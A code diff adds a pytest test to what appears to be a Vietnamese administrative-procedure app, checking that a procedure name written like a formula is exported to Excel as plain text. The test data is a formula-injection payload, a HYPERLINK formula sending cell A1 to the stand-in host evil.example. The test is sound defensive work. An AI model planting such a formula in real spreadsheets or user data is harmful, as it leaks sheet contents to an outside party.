@@ -101,3 +101,17 @@ def test_a_file_that_is_not_excel_is_refused_clearly():
     with pytest.raises(DomainError) as exc:
         parse_workbook(BytesIO(b"%PDF-1.4 not a workbook"))
     assert "Excel" in exc.value.message
+
+
+EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm để xem")'
+
+
+def test_a_name_written_like_a_formula_is_exported_as_text(
+    client, construction_specialist, province_admin, permit_input, clock
+):
+    from dataclasses import replace
+
+    procedure_create(actor=construction_specialist, data=replace(permit_input, name=EVIL), clock=clock)
+    client.force_login(province_admin)
+    cell = load_workbook(BytesIO(client.get("/quan-tri/thu-tuc/xuat-excel/").content))["Thủ tục"]["B2"]
+    assert cell.data_type == "s" and cell.value == EVIL
